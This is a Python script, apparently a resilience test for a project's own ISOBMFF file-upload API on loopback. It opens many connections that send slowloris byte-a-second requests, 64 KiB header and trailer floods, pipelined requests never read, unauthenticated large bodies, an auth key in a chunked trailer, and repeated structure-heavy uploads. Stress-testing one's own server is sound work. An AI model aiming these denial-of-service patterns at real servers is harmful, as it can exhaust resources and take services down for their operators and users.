"""What those who mean harm send, for a while: python attacks.py URL KEY SECONDS KIND...

Everything stays on loopback, on at most a few hundred connections, and ends by itself. A line of
JSON tells how often each kind was tried.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import random
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from pathlib import Path
from uuid import uuid4

import httpx

sys.path.append(str(Path(__file__).resolve().parents[2] / "tests"))

from repeats import repeated_to

API = "/api/v1"
MIB = 1 << 20
POST = f"POST {API}/isobmff_files HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
STRUCTURES = ("tracks", "trafs", "truns", "nested-boxes", "edits", "trafs-with-groups", "items")


class Attack:
    """One who attacks: where, until when, and how often each kind was tried."""

    def __init__(self, url: str, key: str, seconds: float) -> None:
        self.url, self.key = url, key
        host, port = url.removeprefix("http://").split(":")
        self.address = host, int(port)
        self.deadline = time.monotonic() + seconds
        self.tried: Counter[str] = Counter()

    async def raw(self, name: str, pieces: Callable[[int], bytes], pause: float) -> None:
        """Send pieces on one connection, and on the next once it is closed; read no answer."""
        while time.monotonic() < self.deadline:
            self.tried[name] += 1
            with suppress(OSError, TimeoutError):
                _, writer = await asyncio.wait_for(asyncio.open_connection(*self.address), 10)
                try:
                    await self._pour(writer, pieces, pause)
                finally:
                    writer.close()
            await asyncio.sleep(0.05)

    async def _pour(
        self, writer: asyncio.StreamWriter, pieces: Callable[[int], bytes], pause: float
    ) -> None:
        turn = 0
        while time.monotonic() < self.deadline and not writer.transport.is_closing():
            writer.write(pieces(turn))
            with suppress(TimeoutError):
                await asyncio.wait_for(writer.drain(), 1)
            turn += 1
            await asyncio.sleep(pause)

    async def structures(self) -> None:
        """Upload files that repeat one thing, as a tenant who may."""
        bodies = [repeated_to(name, 2 * MIB) for name in STRUCTURES]
        headers = {"Authorization": f"Bearer {self.key}"}
        async with httpx.AsyncClient(
            base_url=self.url + API, headers=headers, timeout=60, trust_env=False
        ) as client:
            while time.monotonic() < self.deadline:
                self.tried["structures"] += 1
                with suppress(httpx.HTTPError):
                    await self._upload(client, random.choice(bodies) + uuid4().bytes)

    async def _upload(self, client: httpx.AsyncClient, data: bytes) -> None:
        body = {"md5": hashlib.md5(data).hexdigest(), "filename": "film.mp4"}
        file = (await client.post("/isobmff_files", json=body)).json()["id"]
        track = {"file_id": file, "track_id": 1, "type": "video", "byte_size": len(data)}
        await client.post("/isobmff_tracks", json=track)
        await client.post(f"/isobmff_tracks/{file}/1/upload", content=data)
        await client.delete(f"/isobmff_files/{file}")


def kinds(attack: Attack) -> dict[str, list[Callable[[], Awaitable[None]]]]:
    """Each kind of attack as so many connections."""

    def raw(count: int, pause: float, name: str, pieces: Callable[[int], bytes]) -> None:
        by_name[name] = [lambda: attack.raw(name, pieces, pause) for _ in range(count)]

    by_name: dict[str, list[Callable[[], Awaitable[None]]]] = {
        "structures": [attack.structures for _ in range(2)]
    }
    begin = "GET /healthz HTTP/1.1\r\nHost: x\r\n"
    long = b"X-A: " + b"a" * 65_536
    raw(8, 0.02, "long heads", lambda n: begin.encode() if n == 0 else long)
    chunked = f"{POST}Transfer-Encoding: chunked\r\n\r\n2\r\n{{}}\r\n0\r\n".encode()
    raw(8, 0.02, "long trailers", lambda n: chunked if n == 0 else b"X-B: " + b"b" * 65_536)
    raw(16, 0.05, "pipelined, never read", lambda n: f"{begin}\r\n".encode() * 64)
    large = f"{POST}Content-Length: {8 * MIB}\r\n\r\n".encode()
    raw(32, 0.1, "bodies without a key", lambda n: large if n == 0 else b" " * 65_536)
    raw(200, 1.0, "a byte a second", lambda n: begin.encode()[n : n + 1] or b"x")
    late = f"{POST}Transfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n".encode()
    end = f"2\r\n{{}}\r\n0\r\nAuthorization: Bearer {attack.key}\r\n\r\n".encode()
    raw(4, 0.2, "the key in a trailer", lambda n: late + end)
    return by_name


async def main(url: str, key: str, seconds: float, *names: str) -> None:
    """All kinds at once, or those named."""
    attack = Attack(url, key, seconds)
    known = kinds(attack)
    chosen = [one for name in names or known for one in known[name]]
    await asyncio.gather(*(one() for one in chosen))
    print(json.dumps(dict(attack.tried)))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], float(sys.argv[3]), *sys.argv[4:]))
